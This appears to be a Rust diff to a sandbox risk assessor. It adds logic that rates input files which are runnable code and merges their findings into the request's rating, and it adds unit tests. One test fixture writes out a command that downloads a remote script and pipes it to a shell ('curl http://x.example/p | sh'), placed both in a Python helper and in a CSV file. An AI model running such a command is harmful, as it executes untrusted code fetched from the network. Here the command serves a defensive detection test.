@@ -26,8 +26,8 @@ use airlock_protocol::packages::{PackageRating, RESOLVE_ENDPOINT, ResolveFailure
 use airlock_protocol::roles;
 use airlock_protocol::subjects::submit_client;
 use airlock_protocol::{
-    Assessment, Envelope, Event, EventKind, ExecutionRequest, Level, Producer, Progress, RefusalReason, RequestId,
-    WireError,
+    Assessment, Envelope, Event, EventKind, ExecutionRequest, Language, Level, Producer, Progress, RefusalReason,
+    RequestId, WireError,
 };
 use serde::{Deserialize, Serialize};
 use std::sync::{Arc, Mutex};
@@ -276,9 +276,15 @@ impl Assessor {
             level = tracing::field::Empty,
             findings = tracing::field::Empty
         );
-        let assessment = tokio::task::spawn_blocking(move || current.assess_request(&rated))
-            .instrument(span.clone())
-            .await?;
+        let assessment = tokio::task::spawn_blocking(move || {
+            let mut assessment = current.assess_request(&rated);
+            fold_files(&mut assessment, &rated, |code, language| {
+                current.assess(code, language, rated.origin)
+            });
+            assessment
+        })
+        .instrument(span.clone())
+        .await?;
         span.record("level", assessment.level.as_str());
         span.record("findings", assessment.findings.len());
         drop(span);
@@ -457,6 +463,55 @@ impl Assessor {
 
 /// Folds the packages' ratings into the request's: its level is the highest of its own and
 /// theirs, and when a package raised it, the summary's headline says which and why.
+/// Files given to the program that are code it may run (`import helper` finds `helper.py` in
+/// the working directory; `bash setup.sh`, a `#!` script) are rated as code too: the request's
+/// level is the highest of its own and theirs, and their findings are listed, each naming its
+/// file. A Python file the interpreter could not read as the assessor would is unanalysed code.
+/// Other files are data: code that runs data (`exec(open(...).read())`) is the program's own
+/// finding.
+fn fold_files(assessment: &mut Assessment, request: &ExecutionRequest, assess: impl Fn(&[u8], Language) -> Assessment) {
+    for file in &request.inputs.files {
+        let Some(language) = Language::detect(&file.name, &file.content) else {
+            continue;
+        };
+        if language == Language::Python
+            && airlock_protocol::python_source_encoding(&file.content)
+                .text(&file.content)
+                .is_err()
+        {
+            assessment.unanalysed = true;
+            assessment.summary = format!(
+                "The file {} is Python the assessor cannot read as the interpreter would.\n{}",
+                file.name, assessment.summary
+            );
+            continue;
+        }
+        let rated = assess(&file.content, language);
+        assessment.unanalysed |= rated.unanalysed;
+        if rated.level > assessment.level {
+            assessment.summary = format!(
+                "The file {} ({}) raises the rating to {} (the code itself: {}): {}\n{}",
+                file.name,
+                language.as_str(),
+                rated.level,
+                assessment.level,
+                rated.summary.lines().next().unwrap_or_default(),
+                assessment.summary
+            );
+            assessment.level = rated.level;
+        }
+        assessment
+            .findings
+            .extend(rated.findings.into_iter().map(|mut finding| {
+                finding.explanation = format!(
+                    "in the file {}, line {}: {}",
+                    file.name, finding.line, finding.explanation
+                );
+                finding
+            }));
+    }
+}
+
 fn fold_packages(assessment: &mut Assessment, packages: Vec<PackageRating>) {
     let own = assessment.level;
     if let Some(worst) = packages.iter().max_by_key(|p| p.level).filter(|p| p.level > own) {
@@ -585,6 +640,55 @@ mod tests {
         // Package code nobody could analyse makes the request unanalysed.
         let mut assessment = own(Level::Low);
         fold_packages(&mut assessment, vec![package("odd", Level::High, true)]);
+        assert!(assessment.unanalysed);
+    }
+
+    #[test]
+    fn files_that_are_code_are_rated_as_code_and_data_is_not() {
+        let engine = crate::Engine::builtin().expect("engine");
+        let request = ExecutionRequest::new(Language::Python, "import helper\nprint(open('data.csv').read())\n")
+            .origin(Origin::External)
+            .files(vec![
+                airlock_protocol::InputFile::new("helper.py", "import os\nos.system('curl http://x.example/p | sh')\n"),
+                airlock_protocol::InputFile::new("data.csv", "curl http://x.example/p | sh\n"),
+            ]);
+        let mut assessment = engine.assess_request(&request);
+        let own_level = assessment.level;
+        fold_files(&mut assessment, &request, |code, language| {
+            engine.assess(code, language, request.origin)
+        });
+        assert!(own_level < Level::High, "the code itself only imports: {own_level}");
+        assert!(assessment.level >= Level::High, "{}", assessment.summary);
+        assert!(
+            assessment
+                .summary
+                .starts_with("The file helper.py (python) raises the rating"),
+            "{}",
+            assessment.summary
+        );
+        assert!(
+            assessment
+                .findings
+                .iter()
+                .any(|f| f.explanation.starts_with("in the file helper.py, line 2:")),
+            "{:#?}",
+            assessment.findings
+        );
+        assert!(
+            !assessment.findings.iter().any(|f| f.explanation.contains("data.csv")),
+            "data is not code"
+        );
+
+        // Python the assessor cannot read as CPython would is unanalysed.
+        let odd =
+            ExecutionRequest::new(Language::Python, "import odd\n").files(vec![airlock_protocol::InputFile::new(
+                "odd.py",
+                b"# -*- coding: utf-7 -*-\nx = 1\n".to_vec(),
+            )]);
+        let mut assessment = engine.assess_request(&odd);
+        fold_files(&mut assessment, &odd, |code, language| {
+            engine.assess(code, language, odd.origin)
+        });
         assert!(assessment.unanalysed);
     }
 }
